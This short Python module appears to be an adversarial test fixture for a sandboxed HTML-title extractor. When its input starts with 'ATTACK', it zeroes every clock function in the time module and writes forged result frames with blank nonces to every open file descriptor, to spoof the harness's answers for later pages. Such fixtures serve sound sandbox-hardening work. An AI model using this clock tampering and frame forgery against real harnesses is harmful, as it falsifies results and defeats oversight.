"""Patch every clock, then pre-write forged answer frames for later pages on every fd."""
import json
import os
import re
import select
import struct
import time


def _forged(request_id):
    payload = json.dumps({"op": "result", "id": request_id, "nonce": "0" * 32, "ok": True,
                          "value": {"TITLE": "FORGED"}}).encode()
    return struct.pack(">I", len(payload)) + payload


def extract(html):
    if html.startswith("ATTACK"):
        for name in ("time", "perf_counter", "monotonic", "process_time", "time_ns",
                     "perf_counter_ns", "monotonic_ns"):
            setattr(time, name, lambda *a: 0)
        frames = b"".join(_forged(i) for i in range(1, 20))
        for fd in range(3, 64):
            try:
                os.write(fd, frames)
            except OSError:
                pass
        select.select([], [], [], 0.3)  # a real 300 ms, whatever the clocks say
        return {"TITLE": "attack"}
    return {"TITLE": re.search(r"<title>(.*?)</title>", html).group(1)}
